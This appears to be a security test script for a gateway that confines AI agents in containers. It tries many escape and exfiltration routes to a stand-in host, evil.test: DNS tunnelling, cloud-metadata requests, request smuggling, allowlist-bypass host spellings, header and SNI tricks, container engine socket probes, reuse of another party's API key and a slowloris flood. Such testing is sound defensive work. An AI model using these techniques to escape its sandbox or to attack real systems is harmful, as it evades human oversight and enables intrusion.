// Tries ways out from inside an agent's container, and prints for each what it saw: {"way":…,"saw":[…]}. Everything
// that would tell somebody something carries a mark, which the world's listeners look for.
// usage: node attacker.mjs '{"ways":[…],"public":…,"private":…,"metadata":…,"bridge":…,"bridgePort":…,"gateway":…}'
import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';

const target = JSON.parse(process.argv[2]);
const PROXY = { host: '127.0.0.1', port: 3128 };
/** For a machine that is busy with many other tests. */
const LIMIT = 15_000;
const VOLUME = '/claude-fleet/gateway';
const seen = [];

/** Nobody is there, or nothing leads there. */
const NOWHERE = new Set(['ENETUNREACH', 'EHOSTUNREACH', 'ECONNREFUSED', 'ENOTFOUND', 'EAI_AGAIN', 'ETIMEOUT', 'ECONNABORTED',
  'EADDRNOTAVAIL', 'ESERVFAIL', 'EINVAL', 'EAFNOSUPPORT', 'ETIMEDOUT', 'EREFUSED', 'EPERM']);

function word(result) {
  if (result instanceof Error) {
    return NOWHERE.has(result.code) ? 'no route' : result.code ?? 'error';
  }
  const status = /^HTTP\/1\.[01] (\d{3})/.exec(result);
  if (status === null) {
    return result === '' ? 'closed' : result;
  }
  const code = /^x-claude-fleet: (.*)$/im.exec(result.split('\r\n\r\n')[0]);
  return code === null ? `HTTP ${status[1]}` : `refused: ${code[1]}`;
}

/** Sends bytes on a connection and returns what came until its end, or for a while. */
function talk(socket, bytes, wait = 1500) {
  return new Promise(resolve => {
    let text = '';
    let idle;
    const done = result => {
      clearTimeout(limit);
      clearTimeout(idle);
      socket.destroy();
      seen.push(String(result));
      resolve(result);
    };
    const limit = setTimeout(() => done(text === '' ? 'silence' : text), LIMIT);
    socket.on('error', error => done(text === '' ? error : text));
    socket.on('data', data => {
      text += data.toString('latin1');
      clearTimeout(idle);
      idle = setTimeout(() => done(text), wait);
    });
    socket.on('close', () => done(text));
    const send = () => socket.write(bytes);
    if (socket.connecting) {
      socket.once('connect', send);
    } else {
      send();
    }
  });
}

const direct = async (host, port, bytes) => word(await talk(net.connect({ host, port }), bytes));
const proxied = async bytes => word(await talk(net.connect(PROXY), bytes));
const connect = async authority => proxied(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);

function udp(host, port, bytes) {
  return new Promise(resolve => {
    const socket = dgram.createSocket(net.isIP(host) === 6 ? 'udp6' : 'udp4');
    const done = result => {
      clearTimeout(limit);
      try {
        socket.close();
      } catch {
        // It is closed.
      }
      resolve(result);
    };
    const limit = setTimeout(() => done('no answer'), 700);
    socket.on('error', error => done(word(error)));
    socket.on('message', () => done('answered'));
    socket.send(bytes, port, host, error => error && done(word(error)));
  });
}

/** Opens a tunnel to an authority and returns its socket, or the refusal. */
function tunnel(authority) {
  return new Promise(resolve => {
    const socket = net.connect(PROXY);
    const limit = setTimeout(() => resolve({ refusal: 'silence' }), LIMIT);
    socket.on('error', error => resolve({ refusal: word(error) }));
    socket.on('close', () => resolve({ refusal: 'closed' }));
    socket.once('data', data => {
      clearTimeout(limit);
      const text = data.toString('latin1');
      seen.push(text);
      resolve(/^HTTP\/1\.1 200/.test(text) ? { socket } : { refusal: word(text) });
    });
    socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
  });
}

/** Sends bytes inside of TLS in a tunnel, with a server name of one's own. */
async function inside(authority, bytes, { servername = authority.split(':')[0], alpn = ['http/1.1'] } = {}) {
  const { socket, refusal } = await tunnel(authority);
  if (socket === undefined) {
    return refusal;
  }
  const secure = tls.connect({ socket, servername, rejectUnauthorized: false, ALPNProtocols: alpn });
  const ready = await new Promise(resolve => {
    secure.once('secureConnect', () => resolve());
    secure.once('error', error => resolve(error));
    secure.once('close', () => resolve(''));
  });
  return ready === undefined ? word(await talk(secure, bytes)) : word(ready);
}

/** Opens a tunnel with TLS in it. */
async function secured(authority, servername) {
  const { socket, refusal } = await tunnel(authority);
  if (socket === undefined) {
    throw new Error(refusal);
  }
  const secure = tls.connect({ socket, servername, ca: fs.readFileSync(`${VOLUME}/bundle.pem`) });
  await new Promise((resolve, reject) => secure.once('secureConnect', resolve).once('error', reject));
  return secure;
}

/** Asks a host by HTTPS, through the gateway if there is one. */
async function ask(host, bytes) {
  if (!target.open) {
    return inside(`${host}:443`, bytes);
  }
  return word(await talk(tls.connect({ host, port: 443, servername: host, rejectUnauthorized: false }), bytes));
}

/** Returns how many bytes came. */
function counted(secure, bytes) {
  return new Promise(resolve => {
    let count = 0;
    secure.on('data', data => {
      count += data.length;
    });
    secure.on('close', () => resolve(`${count >> 20} MB`));
    secure.write(bytes);
  });
}

/** Whether each event of a stream came when it was sent. */
function delays(secure, bytes) {
  return new Promise(resolve => {
    let events = 0;
    let slowest = 0;
    secure.on('data', data => {
      for (const [, at] of data.toString().matchAll(/"at":(\d+)/g)) {
        events++;
        slowest = Math.max(slowest, Date.now() - Number(at));
      }
    });
    secure.on('close', () => resolve(`${events} events ${slowest < 1000 ? 'at once' : `${slowest} ms late`}`));
    secure.write(bytes);
  });
}

const request = (line, host, ...headers) => [line, `Host: ${host}`, ...headers, '', ''].join('\r\n');
const get = (mark, host, ...headers) => request(`GET /${mark} HTTP/1.1`, host, ...headers);
const post = (path, body, ...headers) =>
  `${request(`POST ${path} HTTP/1.1`, 'api.anthropic.com', 'Content-Type: application/json', ...headers, `Content-Length: ${Buffer.byteLength(body)}`)}${body}`;
const api = bytes => inside('api.anthropic.com:443', bytes);
const PROMPT = JSON.stringify({ model: 'claude-haiku-4', max_tokens: 1, messages: [] });
const all = async (...attempts) => Promise.all(attempts);
const inTurn = async (...attempts) => {
  const results = [];
  for (const attempt of attempts) {
    results.push(await attempt());
  }
  return results;
};

function perl(domain, type, protocol) {
  const script = 'use Socket; socket(S, $ARGV[0], $ARGV[1], $ARGV[2]) or do { print $!{EPERM} ? "not permitted" : "not supported"; exit }; print "open"';
  return execFileSync('perl', ['-MErrno', '-e', script, String(domain), String(type), String(protocol)], { encoding: 'utf8' });
}

function tryTo(act) {
  try {
    act();
    return 'done';
  } catch (error) {
    return error.code;
  }
}

function read(path) {
  try {
    return fs.readFileSync(path, 'latin1');
  } catch (error) {
    return '';
  }
}

const WAYS = {
  'tcp': mark => all(direct(target.public, 443, mark), direct(target.public, 80, mark), direct(target.private, 9000, mark)),
  'no-proxy': mark => all(...['allowed.test', target.public].map(host => new Promise(resolve => {
    https.get({ host, servername: 'allowed.test', path: `/${mark}`, rejectUnauthorized: false, timeout: LIMIT }, response => resolve(`HTTP ${response.statusCode}`))
      .on('error', error => resolve(word(error)));
  }))),
  'dns-tunnel': mark => all(dns.lookup(`${mark}.evil.test`).then(() => 'answered', word),
    udp('127.0.0.11', 53, query(`${mark}.evil.test`))),
  'dns-direct': mark => all(udp(target.private, 53, query(`${mark}.evil.test`)), direct(target.private, 53, framed(query(`${mark}.evil.test`)))),
  'doh': mark => all(connect('dns.evil.test:443'), direct(target.public, 443, get(`dns-query?${mark}`, 'dns.evil.test'))),
  'ipv6': mark => all(direct('2001:db8::1', 443, mark), direct(`::ffff:${target.public}`, 443, mark), connect(`[::ffff:${target.public}]:443`), connect('[2001:db8::1]:443')),
  'numeric': mark => all(...numeric(target.public).map(host => inside(`${host}:443`, get(mark, host), { servername: '' }))),
  'metadata': mark => all(...['169.254.169.254', '168.63.129.16', target.metadata]
    .filter(host => !target.open || host === target.metadata).map(host => direct(host, 80, get(mark, host)))),
  'metadata-gateway': mark => all(connect(`${target.metadata}:80`), proxied(request(`GET http://${target.metadata}/${mark} HTTP/1.1`, target.metadata)),
    inside('meta.allowed.test:443', get(mark, 'meta.allowed.test'))),
  'host': mark => all(direct(target.bridge, target.bridgePort, mark), direct('host.docker.internal', target.bridgePort, mark)),
  'host-gateway': mark => all(connect(`${target.bridge}:${target.bridgePort}`), connect(`host.docker.internal:${target.bridgePort}`),
    proxied(request(`GET http://${target.bridge}:${target.bridgePort}/${mark} HTTP/1.1`, `${target.bridge}:${target.bridgePort}`))),
  'neighbours': mark => all(direct(target.gateway, 3128, mark), direct(target.gateway, 443, mark), direct('127.0.0.1', 9000, mark)),
  'other-port': mark => all(inside('allowed.test:8443', get(mark, 'allowed.test:8443')), inside('allowed.test:80', get(mark, 'allowed.test'))),
  'server-name': mark => all(inside('allowed.test:443', get(mark, 'allowed.test'), { servername: 'evil.test' })),
  'host-header': mark => all(inside('allowed.test:443', get(mark, 'evil.test'))),
  'spelling': mark => all(...['allowed.test.evil.test:443', 'evil.test#allowed.test:443', 'evil.test/allowed.test:443', 'allowed.test@evil.test:443',
    'evil.test\\.allowed.test:443', 'xallowed.test:443', '.allowed.test:443', 'allowed.test..:443'].map(connect),
  proxied(request(`GET http://allowed.test@evil.test/${mark} HTTP/1.1`, 'allowed.test'))),
  'null-byte': () => all(connect('evil.test\0.allowed.test:443'), connect('evil.test%00.allowed.test:443')),
  'opaque': mark => all(tunnel('allowed.test:443').then(async ({ socket, refusal }) => refusal ?? word(await talk(socket, `SSH-2.0-${mark}\r\n`)))),
  'websocket': mark => all(inside('allowed.test:443', get(mark, 'allowed.test', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'))),
  'clear-text': mark => all(...['http://allowed.test/', 'http://allowed.test:443/', 'https://allowed.test/', 'https://api.anthropic.com/v1/messages?', 'ftp://allowed.test/']
    .map(url => proxied(request(`GET ${url}${mark} HTTP/1.1`, new URL(url).host)))),
  'smuggling': mark => all(
    api(`POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/files?${mark} HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n`),
    api(`GET /api/hello HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length : 0\r\n\r\nGET /v1/files?${mark} HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n`),
    api(`GET /v1/files?${mark} HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\nGET /api/hello HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n`)),
  'paths': mark => all(
    ...['/v1/messages/../files', '/v1/messages/%2e%2e/files', '//v1/files', '/v1/messages%2f..%2ffiles', '/v1/messages/', '/v1/messages;x=', '/V1/MESSAGES', '/v1/files', '/v1/messages\\..\\files', '/v1//messages']
      .map(path => api(post(`${path}?${mark}`, PROMPT))),
    ...['/public/../secret/', '/public/%2e%2e/secret/', '/public/..%2fsecret/', '/public//../secret/', '/public/..;/secret/', '/publicity/', '/public\\..\\secret/']
      .map(path => inside('paths.allowed.test:443', get(`${path.slice(1)}${mark}`, 'paths.allowed.test')))),
  'methods': mark => all(...['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND'].map(method =>
    inside('paths.allowed.test:443', request(`${method} /public/${mark} HTTP/1.1`, 'paths.allowed.test', 'Content-Length: 0')))),
  'foreign-key': mark => all(...['x-api-key: OTHERS', 'Authorization: Bearer OTHERS', 'X_Api_Key: OTHERS', 'x.api.key: OTHERS', 'X-API-KEY: OTHERS\r\nx-api-key: OTHERS', 'Cookie: session=OTHERS', 'Proxy-Authorization: Basic OTHERS']
    .map(line => api(post('/v1/messages', PROMPT, line.replaceAll('OTHERS', mark))))),
  'echo': mark => all(...['TRACE', 'TRACK', 'OPTIONS'].map(method => api(request(`${method} /v1/messages?${mark} HTTP/1.1`, 'api.anthropic.com', 'Max-Forwards: 0')))),
  'private-names': mark => all(...['loop.allowed.test', 'self.allowed.test', 'private.wild.test'].map(host => inside(`${host}:443`, get(mark, host)))),
  'redirect': mark => all(inside('allowed.test:443', request('GET /redirect HTTP/1.1', 'allowed.test')).then(async first =>
    first === 'HTTP 302' ? inside('evil.test:443', get(mark, 'evil.test')) : first)),
  'udp': mark => all(udp(target.public, 443, mark), udp(target.bridge, target.bridgePort, mark)),
  'raw': () => all(perl(2, 3, 1), perl(17, 3, 768)),
  'http2': mark => all(inside('allowed.test:443', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${mark}`, { alpn: ['h2', 'http/1.1'] }), proxied(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${mark}`)),
  'absolute-form': mark => all(inside('allowed.test:443', request(`GET https://evil.test/${mark} HTTP/1.1`, 'allowed.test'))),
  'two-hosts': mark => all(inside('allowed.test:443', get(mark, 'allowed.test', 'Host: evil.test')), inside('allowed.test:443', get(mark, 'evil.test', 'Host: allowed.test'))),
  'folded-header': mark => all(inside('allowed.test:443', `GET /${mark} HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n`)),
  'chained-proxy': mark => all(inside('allowed.test:443', `CONNECT ${mark}.evil.test:443 HTTP/1.1\r\nHost: ${mark}.evil.test:443\r\n\r\n`)),
  'overrides': mark => all(
    inside('paths.allowed.test:443', request('GET /public/x HTTP/1.1', 'paths.allowed.test', `X-Original-URL: /${mark}`, `X-Rewrite-URL: /${mark}`, `X-Forwarded-Host: ${mark}`, `X-HTTP-Method-Override: ${mark}`, `X_Forwarded_Host: ${mark}`)),
    api(post('/v1/messages', PROMPT, `X-Forwarded-Host: ${mark}`, `X-Original-URL: /v1/files?${mark}`))),
  'hop-by-hop': mark => all(api(post('/v1/messages', PROMPT, 'Connection: x-api-key, authorization', `x-api-key: ${mark}`))),
  'neighbours-socket': () => all(...['agents', 'private'].flatMap(name => [
    tryTo(() => fs.readdirSync(`${VOLUME}/${name}`)), tryTo(() => fs.watch(`${VOLUME}/${name}`)), tryTo(() => fs.chmodSync(`${VOLUME}/${name}`, 0o755))]),
  /\.sock/.test(read('/proc/net/unix')) ? 'named' : 'unnamed'),
  'replaced-relay': () => all(...[
    () => fs.writeFileSync(`${VOLUME}/relay/socat`, 'x'), () => fs.renameSync(`${VOLUME}/relay`, `${VOLUME}/x`), () => fs.unlinkSync(`${VOLUME}/ca.pem`),
    () => fs.symlinkSync('/tmp', `${VOLUME}/link`)].map(tryTo)),
  'engine-socket': () => all(...['/var/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock'].map(path => new Promise(resolve => {
    net.connect(path, () => resolve('open')).on('error', error => resolve(error.code));
  }))),
  'other-processes': () => all(...(fs.readdirSync('/proc').filter(name => /^\d+$/.test(name) && /gateway\.mjs/.test(read(`/proc/${name}/cmdline`))).length > 0
    ? ['seen'] : ['unseen'])),
  // The answer may be lost, as the connection is closed before all of it has been read.
  'huge-headers': async mark => (await all(inside('allowed.test:443', get('x', 'allowed.test', `X: ${mark}${'x'.repeat(1 << 20)}`)),
    proxied(`CONNECT allowed.test:443 HTTP/1.1\r\nX: ${'x'.repeat(1 << 20)}\r\n\r\n`))).map(saw => (saw === 'refused: bad_request' || saw === 'ECONNRESET' || saw === 'EPIPE' ? 'closed' : saw)),
  'abstract-socket': () => all(abstract()),
  'sctp': () => all(...(perl(2, 1, 132) === 'open' ? ['open'] : ['not supported'])),
  'trailers': mark => all(api(`POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nTransfer-Encoding: chunked\r\nTrailer: x-api-key\r\n\r\n${PROMPT.length.toString(16)}\r\n${PROMPT}\r\n0\r\nx-api-key: ${mark}\r\n\r\n`)),
  'case': mark => all(connect('EVIL.TEST:443'), connect('Api.Anthropic.com.:444'), inside('EVIL.test:443', get(mark, 'EVIL.test'))),
  'unicode': () => all(...['аllowed.test:443', 'ａllowed.test:443', 'xn--llowed-3nf.test:443', 'allowed。test:443', 'allowed%2etest:443']
    .map(host => connect(Buffer.from(host).toString('latin1')))),
  'zone-id': () => all(connect('[fe80::1%25eth0]:443'), connect(`[::ffff:${target.public}%x.allowed.test]:443`), connect(`[::ffff:${target.public}%25x.wild.test]:443`)),
  'gateway-itself': mark => all(...['127.0.0.1:3128', 'localhost:443', '0.0.0.0:443', '[::1]:443', `${target.gateway}:443`, 'self.allowed.test:8443'].map(connect),
    proxied(request('GET / HTTP/1.1', 'localhost')), proxied(request(`GET /${mark} HTTP/1.1`, 'evil.test'))),
  // With the policy that has guards.
  'compressed-body': mark => all(api(post('/v1/messages', PROMPT.replace('claude-haiku-4', mark), 'Content-Encoding: gzip')), api(post('/v1/messages', PROMPT, 'Content-Encoding: identity, gzip'))),
  'two-models': mark => all(...[`{"model":"claude-haiku-4","model":"${mark}"}`, `{"model":"${mark}","model":"claude-haiku-4"}`, `{"mod\\u0065l":"${mark}","model":"claude-haiku-4"}`,
    `{"Model":"${mark}","model":"claude-haiku-4"}`, `{"model":["${mark}"]}`, `[{"model":"claude-haiku-4"}]`, `{"model":"${mark}"}`, `\ufeff{"model":"${mark}"}`, '{}', '']
    .map(body => api(post('/v1/messages', body)))),
  'request-limit': mark => inTurn(...Array.from({ length: 3 }, () => () => api(post('/v1/messages', PROMPT))), () => api(post(`/v1/messages?${mark}`, PROMPT))),
  // With the policies `audit` and `none`.
  'audit': mark => all(inside('evil.test:443', get('audited', 'evil.test')), connect(`${target.metadata}:80`), connect('169.254.169.254:80'), connect('127.0.0.1:443'), connect(`${target.gateway}:443`),
    inside('meta.allowed.test:443', get(mark, 'meta.allowed.test'))),
  'none': mark => all(inside('allowed.test:443', get(mark, 'allowed.test')), api(post('/v1/messages', PROMPT))),
  // What an agent can do in each mode: docs/security.md. It has target.held, and target.mark is somebody else's key.
  'rights': () => all(...['evil.test', 'allowed.test'].map(host => ask(host, get('x', host, `x-api-key: ${target.held}`, `x-mark: ${target.mark}`))),
    target.open ? direct(target.metadata, 80, get('x', target.metadata)) : connect(`${target.metadata}:80`),
    ask('api.anthropic.com', post('/v1/messages', PROMPT, `x-api-key: ${target.held}`, `x-mark: ${target.mark}`)),
    ask('api.anthropic.com', post('/v1/messages', PROMPT, `x-api-key: ${target.mark}`))),
  // What must work.
  'allowed': () => all(inside('allowed.test:443', get('x', 'allowed.test')), inside('ok.wild.test:443', get('x', 'ok.wild.test')),
    inside('paths.allowed.test:443', get('public/x', 'paths.allowed.test')), api(post('/v1/messages?beta=true', PROMPT)), api(get('api/hello', 'api.anthropic.com'))),
  'cookies': () => all(...[['api.anthropic.com', 'api/hello'], ['allowed.test', 'x']].map(async ([host, path]) => {
    const secure = await secured(`${host}:443`, host);
    return /^set-cookie:/im.test(String(await talk(secure, get(path, host)))) ? 'kept' : 'removed';
  })),
  'large': () => all(...[secured('allowed.test:443', 'allowed.test').then(secure => counted(secure, get('large', 'allowed.test', 'Connection: close')))]),
  'stream': () => all(secured('allowed.test:443', 'allowed.test').then(secure => delays(secure, get('stream/5/300', 'allowed.test', 'Connection: close')))),
  'streams': () => all(...Array.from({ length: 50 }, async () => {
    const secure = await secured('allowed.test:443', 'allowed.test');
    return delays(secure, get('stream/20/200', 'allowed.test', 'Connection: close'));
  })),
  'literal': () => all(inside(`${target.private}:8443`, get('x', `${target.private}:8443`), { servername: '' })),
  'hello': () => all(api(get('api/hello', 'api.anthropic.com')), inside('allowed.test:443', get('x', 'allowed.test'))),
  'own-key': () => all(api(post('/v1/messages', PROMPT, `x-api-key: ${target.key}`)), api(post('/v1/messages', PROMPT, `Authorization: Bearer ${target.key}`))),
};

function query(name) {
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
    ...name.split('.').map(label => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0, 0, 1, 0, 1])]);
}

function framed(message) {
  return Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]);
}

function numeric(address) {
  const [a, b, c, d] = address.split('.').map(Number);
  return [String(((a * 256 + b) * 256 + c) * 256 + d), `0x${[a, b, c, d].map(n => n.toString(16).padStart(2, '0')).join('')}`,
    [a, b, c, d].map(n => `0${n.toString(8)}`).join('.'), `${a}.${b}.${c * 256 + d}`, address];
}

function abstract() {
  const script = 'use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); print connect(S, pack("S a*", 1, "\\0neighbour")) ? "open" : "no route"';
  return execFileSync('perl', ['-e', script], { encoding: 'utf8' });
}

/** Holds connections with a request that never ends, for a while. */
async function slowloris() {
  const sockets = Array.from({ length: 400 }, () => net.connect(process.env.CLAUDE_FLEET_GATEWAY_SOCKET).on('error', () => {}));
  sockets.forEach(socket => socket.write('CONNECT allowed.test:443 HTTP/1.1\r\nX: '));
  await new Promise(resolve => setTimeout(resolve, 15_000));
  return ['over'];
}

WAYS.slowloris = slowloris;
process.on('uncaughtException', error => console.log(JSON.stringify({ way: 'uncaught', saw: [String(error.code ?? error)] })));
await Promise.all(target.ways.map(async way => {
  const saw = await Promise.resolve(WAYS[way](`leak-${way}${target.open ? '-open' : ''}`)).catch(error => [`failed ${error.message}`]);
  console.log(JSON.stringify({ way, saw }));
}));
fs.appendFileSync('/tmp/seen', seen.join('\n'));
process.exit(0);
